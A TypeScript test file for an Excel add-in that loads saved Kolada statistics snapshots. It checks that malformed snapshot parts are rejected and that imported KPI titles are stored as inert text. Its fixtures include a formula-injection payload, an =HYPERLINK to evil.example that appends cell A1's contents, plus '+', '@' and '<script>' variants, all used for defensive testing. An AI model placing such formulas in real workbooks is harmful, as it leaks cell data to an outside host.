/**
 * A workbook's saved Kolada part is input: checked for shape, types and sizes when read (a bad part is ignored
 * with a message, never half-loaded), and its KPI titles reach cells inert in both executors.
 */
import { KoladaStore, koladaStore } from "../../src/core/kolada/store";
import { readSnapshot, SNAPSHOT_LIMITS, type KoladaSnapshot } from "../../src/core/kolada/snapshot";
import { catalog } from "../../src/core/dataset/lookup";
import { koladaComparisonPlan } from "../../src/core/workbook/koladaPlan";
import { inertText as inert, quoteText } from "../../src/core/util/text";
import { insertComparison, KOLADA_NS, restoreFromWorkbook, snapshotFromXml, snapshotXml } from "../../src/excel/kolada";
import { xlsxParts } from "../../src/xlsx/package";
import { FakeContext, withXmlParts } from "../excel/fakeExcel";

const AT = "2026-05-04T08:00:00.000Z";
const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"Klicka")';

function snapshot(patch: Partial<KoladaSnapshot> = {}): KoladaSnapshot {
  return {
    format: "pv-kolada-snapshot",
    version: 1,
    source: "Kolada (RKA), https://www.kolada.se",
    baseUrl: "https://api.kolada.se/v3",
    fetchedAt: AT,
    kpis: [
      { id: "N71000", title: HOSTILE, fetchedAt: AT },
      { id: "N70061", title: "+SUM(1;2)", fetchedAt: AT },
      { id: "N70059", title: "@läkemedel", fetchedAt: AT },
    ],
    regions: ["0009"],
    years: [2022],
    warnings: [],
    rows: [
      ["N71000", "0009", 2022, "T", 7215],
      ["N70061", "0009", 2022, "T", 38120],
      ["N70059", "0009", 2022, "T", 3120],
    ],
    ...patch,
  };
}

const reasonOf = (doc: unknown) => {
  const r = readSnapshot(doc);
  return r.ok ? "ok" : r.reason;
};

describe("reading a saved Kolada part", () => {
  it("accepts a well-formed snapshot", () => {
    expect(reasonOf(snapshot())).toBe("ok");
  });

  it.each([
    ["a KPI id that is not one", { kpis: [{ id: "=1+1", title: "x", fetchedAt: AT }] }, "KPI-listan är ogiltig"],
    [
      "a title beyond the size limit",
      { kpis: [{ id: "N71000", title: "x".repeat(SNAPSHOT_LIMITS.title + 1), fetchedAt: AT }] },
      "KPI-listan är ogiltig",
    ],
    ["a title that is not text", { kpis: [{ id: "N71000", title: 5, fetchedAt: AT }] }, "KPI-listan är ogiltig"],
    [
      "the same KPI twice",
      {
        kpis: [
          { id: "N71000", title: "a", fetchedAt: AT },
          { id: "N71000", title: "b", fetchedAt: AT },
        ],
        rows: [],
      },
      "dubbletter",
    ],
    ["a municipality id", { rows: [["N71000", "0180", 2022, "T", 1]] }, "ogiltig rad"],
    ["a year out of range", { rows: [["N71000", "0009", 99999, "T", 1]] }, "ogiltig rad"],
    [
      "the same value twice",
      {
        rows: [
          ["N71000", "0009", 2022, "T", 1],
          ["N71000", "0009", 2022, "T", 2],
        ],
      },
      "dubblerad rad",
    ],
    ["warnings that are not text", { warnings: [{ x: 1 }] }, "varningslistan är ogiltig"],
    ["a source that is not text", { source: { evil: true } }, "fältet source är ogiltigt"],
    ["a fetch date that is not one", { fetchedAt: "2026-05-04T08:00:00Z<script>" }, "hämtningsdatum saknas"],
  ])("refuses %s", (_what, patch, reason) => {
    expect(reasonOf({ ...snapshot(), ...(patch as object) })).toContain(reason);
  });

  it("refuses too many rows without reading them", () => {
    const rows = { length: SNAPSHOT_LIMITS.rows + 1 } as unknown as KoladaSnapshot["rows"];
    expect(reasonOf({ ...snapshot(), rows: Object.assign([], rows) })).toContain("för många rader");
  });

  it("a bad part in a workbook is ignored with a message and nothing of it is loaded", async () => {
    koladaStore().clear();
    const ctx = new FakeContext();
    const x = withXmlParts(ctx);
    const bad = snapshot({
      rows: [
        ["N71000", "0009", 2022, "T", 7215],
        ["N71000", "0180", 2022, "T", 1],
      ],
    });
    x.parts.push({ id: "p", ns: KOLADA_NS, xml: snapshotXml(bad) });
    await restoreFromWorkbook(ctx.run);
    expect(koladaStore().loaded).toBe(false);
    expect(koladaStore().kpi("N71000")).toBeUndefined();
    expect(koladaStore().note).toContain("kunde inte läsas (ogiltig rad");
    expect(snapshotFromXml("x".repeat(50_000_001))).toEqual({ ok: false, reason: "delen är för stor (50000001 tecken)" });
  });
});

describe("text from outside is inert in a cell, in both executors", () => {
  it("one rule: = + - @ get the quote prefix; the file executor stores the text without it", () => {
    expect(["=1", "+1", "-1", "@a", "a=1", ""].map(inert)).toEqual(["'=1", "'+1", "'-1", "'@a", "a=1", ""]);
    expect(quoteText(inert(HOSTILE))).toEqual({ text: HOSTILE, quoted: true });
    expect(quoteText("Kalmar")).toEqual({ text: "Kalmar", quoted: false });
  });

  it("a saved title starting with = lands as text in Office.js (fake Excel) and in the .xlsx writer", async () => {
    const store = new KoladaStore();
    const r = snapshotFromXml(snapshotXml(snapshot()));
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    store.load(r.snapshot, "workbook");
    const plan = koladaComparisonPlan(store, catalog(), 2022);
    expect(plan.subtitle.startsWith(`'${HOSTILE}`)).toBe(true);

    // Office.js: the insert succeeds and A2 holds the title as text, not a formula.
    koladaStore().clear();
    koladaStore().load(r.snapshot, "workbook");
    const ctx = new FakeContext();
    const report = await insertComparison(2022, { api18: true, api19: true } as never, ctx.run);
    expect(report.ok).toBe(true);
    const a2 = ctx.workbook.sheet("Kolada")!.cell(1, 0);
    expect(a2.formula).toBeUndefined();
    expect(String(a2.value).startsWith(HOSTILE)).toBe(true);

    // .xlsx: A2 is a shared string with the title as given, in a quotePrefix style; no formula anywhere near it.
    const parts = xlsxParts([plan]);
    const sheetXml = parts.get("xl/worksheets/sheet1.xml")!;
    const a2Xml = /<c r="A2"( s="(\d+)")? t="s"><v>(\d+)<\/v><\/c>/.exec(sheetXml)!;
    expect(a2Xml).not.toBeNull();
    expect(sheetXml).not.toContain("HYPERLINK");
    const strings = [...parts.get("xl/sharedStrings.xml")!.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((m) => m[1]);
    expect(strings[Number(a2Xml[3])].startsWith("=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1;&quot;Klicka&quot;)")).toBe(true);
    const cellXfs = /<cellXfs[^>]*>(.*?)<\/cellXfs>/.exec(parts.get("xl/styles.xml")!)![1];
    const xfs = [...cellXfs.matchAll(/<xf [^>]*\/>/g)].map((m) => m[0]);
    expect(xfs[Number(a2Xml[2])]).toContain('quotePrefix="1"');
    koladaStore().clear();
  });
});
